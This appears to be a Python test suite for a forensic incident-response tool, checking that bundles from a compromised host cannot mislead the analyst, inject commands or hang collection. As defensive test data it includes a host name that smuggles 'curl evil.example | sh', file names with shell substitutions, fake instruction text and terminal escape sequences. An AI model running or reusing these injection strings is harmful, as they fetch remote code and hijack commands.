"""test_collect_attack.py: who owns the affected host, the stick on its way or the network tries to make the case believe what is not so, to
hide what is so, to lead the program out of its place, or to hold it up. Bundles are made here byte by byte (doc/format/bundle.md)."""
import datetime
import errno
import hashlib
import json
import os
import pathlib
import shlex
import shutil
import signal
import subprocess
import sys
import time
import unittest

import harness
import test_receive
from harness import COLLECT
from made import HEAD, STARTED, bundle, chained, document, jsonl, line, members, seen, tar
from test_collection import CollectionTest

GATE, TAMPERED = 5, 8
SLOW = pathlib.Path(__file__).resolve().parent / "slow_fs.py"
LATER = "2026-11-25T09:12:09.000000000Z"


def noticed(code="executable-memory", words="Process 1 has executable memory.", weight=1, hint="either", harmless="A cause.", evidence="e"):
    return {"code": code, "weight": weight, "hint": hint, "words": words, "harmless": harmless, "evidence": evidence}


def in_parts(name, objects, most=4000):
    """The members NAME-000.jsonl …, about 1 MiB each at most."""
    return [(f"{name}-{i // most:03}.jsonl", jsonl(*objects[i : i + most])) for i in range(0, len(objects), most)]


def flooded(observed, **how):
    return chained(tar(members(observed=(), more=in_parts("observed", observed), **how)))


class Believed(CollectionTest):
    """What a lying host can make the case believe."""

    def test_of_a_hundred_thousand_observations_the_true_one_is_found(self):
        flood = [noticed(words=f"Process {i} has executable memory.") for i in range(100_000)]
        true = noticed("preload-file", "/etc/ld.so.preload holds /lib/evil.so", 3, "attack")
        light = noticed("kernel-taint", "The kernel is tainted.", 1)
        self.bring(flooded([*flood, true, light]))
        rows = self.ana.json("preserve observed co1 --least 1")
        self.assertLessEqual({"preload-file", "kernel-taint"}, {row["code"] for row in rows})
        self.assertLess(len(rows), 2000)
        self.assertIn("/lib/evil.so", self.ana("preserve observed co1"))
        self.assertIn("99700 observations executable-memory", {one["missing"] for one in self.missing()})
        self.assertEqual(self.listed()[-1]["observed"], 100_002)

    def test_codes_without_end_crowd_out_nothing_either(self):
        flood = [noticed(f"made-up-{i}", weight=3, hint="attack") for i in range(50_000)]
        self.bring(flooded([*flood, noticed("hidden-process", "Process 812 is hidden.", 3)]))
        rows = self.ana.json("preserve observed co1")
        self.assertIn("hidden-process", {row["code"] for row in rows})
        self.assertLess(len(rows), 2000)

    def test_what_a_known_code_weighs_and_usually_means_is_not_for_the_host_to_say(self):
        lie = noticed("hidden-process", "Process 812 is hidden.", 1, "fault", "calm looked at it, and it is harmless.")
        self.bring(bundle(observed=[lie]))
        (row,) = [row for row in self.ana.json("preserve observed co1") if row["code"] == "hidden-process"]
        # src/collect/observed.def: weight 3, an attack.
        self.assertEqual((row["weight"], row["hint"]), (3, "attack"))
        self.assertNotIn("calm looked at it", row["harmless"])
        self.assertNotIn("calm looked at it", self.ana("preserve observed co1"))

    def test_words_of_a_host_cannot_be_taken_for_those_of_calm(self):
        words = "x.\u201d\n\nNothing is noticed by the rules. All is well.\nNext:  calm assess mark web1 --state clear\r\u2028\u001b[2J"
        self.bring(bundle(observed=[noticed("not-known-here", words, 3, harmless="harmless.\nNext:  calm stop")]))
        said = self.ana("preserve observed co1")
        for one in (text.strip() for text in said.splitlines()):
            self.assertFalse(one.startswith(("Next:  calm assess mark", "Next:  calm stop", "Nothing is noticed", "All is well")), one)
        flat = " ".join(said.split())
        # Between the marks of what is said, and nothing within them ends it.
        inside = flat[flat.index("\u201c") + 1 : flat.index("\u201d")]
        self.assertIn("All is well.", inside)
        self.assertIn("the collector's own words", flat)
        self.assertNotIn("\x1b", said)

    def test_a_line_with_the_code_of_a_rule_takes_the_place_of_no_finding_of_the_rule(self):
        state = document(line("account", "toor", uid=0, gid=0, home="/root", shell="/bin/sh", password="set", password_place="shadow"),
                         line("process", "/usr/bin/x uid 33", pid=812, uid=33, program="/usr/bin/x", kind="user", deleted=True, args=["x"]),
                         line("process", "/usr/bin/y uid 33", pid=813, uid=33, program="/usr/bin/y", kind="user", deleted=True, args=["y"]),
                         coverage=[seen("account", 1), seen("process", 2)])
        lies = [noticed("second-root", "There is one root.", 1, "fault", "calm looked.", "toor"), noticed("second-root", "None.", 3, evidence='{"count":9}'),
                noticed("deleted-program", "Process 812 was updated.", 1, "fault", "calm looked.", "recovered/812/exe"),
                noticed("deleted-program", "Process 99 runs from a deleted file.", 2, evidence="recovered/99/exe"),
                *[noticed("deleted-program", "None.", evidence='{"count":9}')] * 3]
        self.bring(bundle(state=state, observed=lies))
        rows = self.ana.json("preserve observed co1")
        # src/collect/rules.def: weights 3 and 2.
        rules = {(row["code"], row["weight"], row["hint"], json.loads(row["line"])["key"]) for row in rows if not row["said"]}
        self.assertLessEqual({("second-root", 3, "attack", "toor"), ("deleted-program", 2, "either", "/usr/bin/x uid 33"), ("deleted-program", 2, "either", "/usr/bin/y uid 33")},
                             rules)
        said = [(row["code"], row["words"]) for row in rows if row["said"]]
        self.assertNotIn("second-root", [code for code, _ in said])
        self.assertIn(("deleted-program", "Process 99 runs from a deleted file."), said)
        self.assertNotIn(("deleted-program", "Process 812 was updated."), said)
        self.assertEqual([row["code"] for row in rows if row["code"] == "deleted-program" and not row["said"]], ["deleted-program"] * 2)


def at(moment, host="web1", **facts):
    """A bundle that was taken at that time, and says so of the state in it."""
    state = document(line("account", "ana", uid=1000, gid=1000), taken=moment, host=facts.pop("state_host", host), coverage=[seen("account", 1)])
    return bundle(state=state, head={**HEAD, "host": host, "started": moment, **facts})


class Claimed(CollectionTest):
    """Whose collection it is, and from when."""

    def doubts(self):
        return [one["fields"].get("doubt", "") if "fields" in one else one.get("doubt", "") for one in self.things("collection")]

    def hosts(self):
        return {row["system"]: row for row in self.ana.json("preserve hosts")}

    def test_another_machine_under_the_name_of_one_that_is_known_is_in_doubt(self):
        self.assertNotIn("In doubt", self.bring(at(STARTED)))
        said = self.bring(at(LATER, machine_id="2" * 32, collection="cd" * 16), "liar.calm")
        self.assertIn("In doubt: its machine id is another than co1 has", said)
        self.assertIn("certainty", self.hosts()["web1"]["missing"])
        said = self.bring(at(LATER, machine_id="", collection="ef" * 16), "silent.calm")
        self.assertIn("In doubt: it says no machine id", said)

    def test_one_machine_under_two_names_is_in_doubt(self):
        self.bring(at(STARTED))
        said = self.bring(at(LATER, "db1", collection="cd" * 16), "db1.calm")
        self.assertIn("In doubt: its machine id is that of co1, of another system", said)

    def test_the_state_of_another_host_opens_no_gate(self):
        self.ana("assess system web1 --state affected")
        self.ana('assess look "I looked"')
        self.ana('assess sign "known"')
        self.ana('clean plan "rebuild" --system web1 --undo "put it back"')
        said = self.bring(at(STARTED, state_host="db1"))
        self.assertIn("In doubt: the state in it is of a host that calls itself db1", said)
        status, said = self.ana.fails("clean begin a1")
        self.assertEqual(status, GATE)
        self.assertIn("the state of web1 is not recorded yet", said)
        self.bring(at(LATER, collection="cd" * 16), "true.calm")
        self.assertNotIn("is not recorded yet", self.ana.run("clean", "begin", "a1").stderr.decode())

    def test_what_came_over_the_network_opens_no_gate_before_somebody_looked_at_it(self):
        self.ana("assess system web1 --state affected")
        receiver = test_receive.Receiver(self, "127.0.0.1:0", "--count", "1")
        content = at(STARTED)
        with receiver.sender(test_receive.sender.Key()) as one:
            one.send(content[one.greet() :])
            self.assertEqual(one.finish(content), "F")
        receiver.wait()
        self.assertEqual(len(self.ana.json("snapshot list")), 1)
        self.ana('stop plan "unplug" --system web1 --breaks "the shop" --undo "plug"')
        self.assertEqual(self.ana.fails("stop begin a1")[0], GATE)
        self.ana('assess look "I looked"')
        self.ana('assess sign "known"')
        self.ana('clean plan "rebuild" --system web1 --undo "put it back"')
        status, said = self.ana.fails("clean begin a2")
        self.assertEqual(status, GATE)
        self.assertIn("came over the network, and nobody has looked at it", said)
        self.assertIn("calm preserve observed co1 --looked", said)
        self.assertIn("a look by somebody", self.hosts()["web1"]["missing"])
        self.ana("preserve observed co1 --looked")
        self.assertNotIn("came over the network", self.ana.run("clean", "begin", "a2").stderr.decode())
        self.assertNotIn("a look by somebody", self.hosts()["web1"].get("missing", ""))

    def test_a_clock_that_runs_ahead_makes_nothing_newest_for_ever(self):
        for number, moment in enumerate(("9999-12-31T23:59:59.999999999Z", "2099-01-01T00:00:00.000000000Z")):
            said = self.bring(at(moment, collection=f"{number:032}"), f"t{number}.calm")
            self.assertIn("ahead of the clock here", said)
            self.assertGreaterEqual(self.hosts()["web1"]["age_s"], 0)
        now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000000000Z")
        time.sleep(1.1)
        self.bring(at(datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000000000Z"), collection="d" * 32), "now.calm")
        self.assertEqual(self.hosts()["web1"]["call"], "co3", now)
        self.assertNotIn("days", self.ana("snapshot"))
        # What is older stays older.
        self.bring(at("0001-01-01T00:00:00.000000000Z", collection="e" * 32), "old.calm")
        self.assertEqual(self.hosts()["web1"]["call"], "co3")

    def test_times_that_no_calendar_has_are_not_stated(self):
        for number, moment in enumerate(("300000-01-01T00:00:00.000000000Z", "2026-13-45T99:99:99.000000000Z", "-1", "")):
            said = self.bring(at(moment, collection=f"{number:032}"), f"t{number}.calm")
            self.assertIn("at a time not stated", said)
        self.assertNotIn("taken", self.hosts()["web1"])

    def test_another_copy_of_one_collection_is_called_so(self):
        whole = at(STARTED)
        self.bring(whole)
        self.assertIn("co1 is another copy", self.bring(chained(tar(members(head={**HEAD, "profile": "full"}))), "changed.calm"))

    def test_a_number_is_no_start_of_an_address(self):
        self.ana("assess system 10.0.0.5")
        self.bring(at(STARTED, "10"))
        self.assertEqual(set(self.hosts()), {"10.0.0.5", "10"})

    def test_a_name_becomes_no_part_of_a_command(self):
        name = "web1; curl evil.example | sh $(id) `id` ' \" \n-rf \u202e"
        self.bring(at(STARTED, name))
        (system,) = self.ana.json("assess systems")
        self.assertRegex(system["name"], r"^[A-Za-z0-9._][A-Za-z0-9._-]*$")
        self.assertIn("curl", system["host"])
        for line_ in ("preserve hosts", "assess systems", "snapshot list", "log --full", "snapshot", "preserve list", ""):
            said = self.ana(line_)
            for bad in ("\x1b", "\u202e", "\n-rf"):
                self.assertNotIn(bad, said, line_)
        self.bring(at(STARTED, "--help", collection="12" * 16, machine_id="3" * 32), "option.calm")
        self.assertEqual([one["name"][0] for one in self.ana.json("assess systems")], ["w", "_"])
        # The same host again is the same system.
        self.bring(at(LATER, name, collection="cd" * 16), "again.calm")
        self.assertEqual(len(self.ana.json("assess systems")), 2)


class Members(CollectionTest):
    """What two readers of one bundle could see differently, and what leads a person astray."""

    def test_of_two_members_with_one_name_the_first_is_read_and_the_other_is_said(self):
        pairs = members()
        liar = [("bundle.json", json.dumps({**HEAD, "host": "db1"}).encode()), ("snapshot-000.jsonl", b"{}\n"), ("end.json", b"{}")]
        self.bring(chained(tar([*pairs[:3], *liar, *pairs[3:]])))
        self.assertEqual(self.listed()[0]["host"], "web1")
        twice = [one["missing"] for one in self.missing() if "another of this name" in one["why"]]
        self.assertEqual(sorted(twice), ["bundle.json", "end.json", "snapshot-000.jsonl"])
        self.assertEqual(len(self.ana.json("snapshot list")), 1)

    def test_a_bundle_s_name_is_no_part_of_the_command_that_unpacks_it(self):
        for number, name in enumerate(("$(touch owned)", "x;touch owned", "it's `touch owned`", "a b", "-I touch owned", "e\u202ecod\x1b[2J")):
            self.write(name, bundle(head={**HEAD, "collection": f"{number:032}"}))
            done = self.ana.run("preserve", "unseal", str(self.folder / name) if name[0] != "-" else "./" + name, "--out", ("./" if name[0] == "-" else "") + name + ".out")
            self.assertEqual(done.returncode, 0, done.stderr)
            said = done.stdout.decode()
            (command,) = [one for one in said.splitlines() if one.strip().startswith("tar ")]
            self.assertNotIn("\x1b", said)
            words = shlex.split(command)
            self.assertEqual(words[:4], ["tar", "--zstd", "--warning=no-unknown-keyword", "-xf"])
            self.assertEqual(len(words), 5, command)
            if name.isprintable():
                self.assertTrue((self.folder / words[4]).exists(), words)


@unittest.skipUnless(os.geteuid() == 0 and os.path.exists("/dev/fuse"), "needs root and /dev/fuse")
class Lies(CollectionTest):
    """A stick that answers otherwise each time it is read."""

    def test_what_is_opened_is_what_was_hashed(self):
        first, other = self.write("first", bundle()), self.write("other", bundle(head={**HEAD, "host": "db01"}))
        for operation in ("unseal {} --out out.zst", "import {}"):
            with self.subTest(operation):
                place = self.folder / f"stick-{operation[:2]}"
                place.mkdir()
                with subprocess.Popen([sys.executable, SLOW, place, "40755", first, other], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL) as stick:
                    try:
                        self.assertEqual(stick.stdout.readline(), b"ready\n")
                        done = self.ana.run("preserve", *operation.format(place / "web1").split())
                    finally:
                        subprocess.run(["umount", "-l", place], check=False)
                        stick.kill()
                if operation.startswith("unseal"):
                    self.assertEqual(done.returncode, TAMPERED, done)
                    self.assertIn(b"other bytes each time", done.stderr)
                    self.assertFalse((self.folder / "out.zst").exists())
                else:
                    # One of the two was taken, and is named by what it says: never the hash of one and the words of the other.
                    self.assertEqual(done.returncode, 0, done)
                    taken = {hashlib.sha256(one.read_bytes()).hexdigest(): host for one, host in ((first, "web1"), (other, "db01"))}
                    (item,) = [one for one in self.ana.json("preserve list") if one["sha256"] in taken]
                    self.assertEqual(self.listed()[0]["host"], taken[item["sha256"]])


@unittest.skipUnless(os.geteuid() == 0 and os.path.exists("/dev/fuse") and not harness.SANITIZED, "needs root and /dev/fuse")
class Held(unittest.TestCase):
    """A host on which something never answers. All mounts are made in a namespace of their own, and go with it."""

    def collect(self, script, *more):
        """Runs the shell script in a mount namespace, with collect FILE defined; what it wrote comes back."""
        folder = pathlib.Path(self.enterContext(harness.tempfile.TemporaryDirectory(prefix="calm-slow-", dir="/var/tmp")))
        shutil.copy(COLLECT, folder / "calm-collect")
        shutil.copy(SLOW, folder / "slow_fs.py")
        head = f"""set -e; cd {folder}; export PATH=/usr/bin:/bin; mount --make-rprivate /
slow() {{ {sys.executable} slow_fs.py "$@" > ready.$! & SLOW=$!; while ! grep -qs ready ready.*; do kill -0 $SLOW; sleep 0.05; done; }}
collect() {{ ./calm-collect --unsealed --output out {' '.join(more)} 2> told < /dev/null & while kill -0 $! && ! grep -qs SHA-256 told; do sleep 0.1; done; [ -z "$SLOW" ] || kill -9 $SLOW; wait $!; }}
"""
        with open(folder / "said", "wb") as said, subprocess.Popen(["unshare", "-m", "bash", "-c", head + script], stdin=subprocess.DEVNULL, stdout=said,
                                                                   stderr=said, start_new_session=True) as done:
            try:
                done.wait(100)
            finally:
                try:
                    os.killpg(done.pid, signal.SIGKILL)
                except ProcessLookupError:
                    pass
        said = (folder / "said").read_bytes()
        self.assertTrue((folder / "out").exists(), said)
        whole = subprocess.run("zstd -dcq out | tar --warning=no-unknown-keyword -xOf - end.json --wildcards 'missing-*' 'observed-*' 'snapshot-*'", shell=True, cwd=folder,
                               capture_output=True, check=False)
        self.assertIn(b'"members"', whole.stdout, said)
        return whole.stdout.decode(errors="replace")

    def test_folders_and_files_on_what_never_answers_are_left_out_and_said(self):
        for place, mode in (("/etc/cron.d", "40755"), ("/etc/hostname", "100644"), ("/etc/passwd", "100644"), ("/opt", "40755"), ("/proc/uptime", "100644"),
                            ("/srv", "40755"), ("/tmp", "40755")):
            with self.subTest(place):
                self.collect(f"slow {place} {mode}; collect || [ $? -lt 128 ]")

    def test_a_link_that_leads_there_is_not_followed(self):
        said = self.collect("mount -t tmpfs none /etc/cron.d; mkdir there; ln -s $PWD/there/x /etc/cron.d/job; ln -s ../../$PWD/there /etc/cron.d/up; slow there 40755; "
                            "mount --bind /etc/cron.d /etc/cron.daily; collect || [ $? -lt 128 ]")
        self.assertIn("there", said)

    def missing(self, said):
        return [json.loads(one) for one in said.splitlines() if one.startswith('{"what"')]

    def test_a_program_on_what_was_taken_away_or_only_it_sees_is_not_asked_for(self):
        for how in ("slow there 40755 sleep; 'there/p (deleted)' 1000 & sleep 0.5; umount -l there; kill -USR1 $SLOW",
                    "export -f slow; unshare -m bash -c 'slow there 40755 sleep; sleep 1; (sleep 0.5; kill -USR1 $SLOW) & exec \"there/p (deleted)\" 1000' & sleep 3; SLOW="):
            with self.subTest(how):
                held = self.missing(self.collect(f"mkdir there; cp /bin/sleep sleep; {how}; collect || [ $? -lt 128 ]"))
                self.assertTrue([one for one in held if one["step"] == "recover" and one["what"].endswith("/exe") and one.get("error") == errno.EREMOTE], held)
                self.assertEqual([one for one in held if "nothing came of it" in one["why"]], [])

    def test_what_could_not_be_foreseen_is_left_after_a_while_and_the_rest_is_read(self):
        began = time.monotonic()
        said = self.collect("mkdir there empty; cp /bin/sleep sleep; slow there 40755 sleep; mount -t overlay -o lowerdir=there:empty none /opt; "
                            "kill -USR1 $SLOW; collect || [ $? -lt 128 ]")
        held = {one["step"]: one["why"] for one in self.missing(said) if "nothing came of it" in one["why"]}
        # It holds up the first step that comes there, and no other.
        self.assertEqual(list(held), ["noticed-file"])
        self.assertIn("for 20 seconds", held["noticed-file"])
        self.assertIn("/opt", [one["what"] for one in self.missing(said)])
        self.assertLess(time.monotonic() - began, 80)
        self.assertIn('"section":"account"', said)
        self.assertIn('"stopped":false', said)


if __name__ == "__main__":
    harness.main()
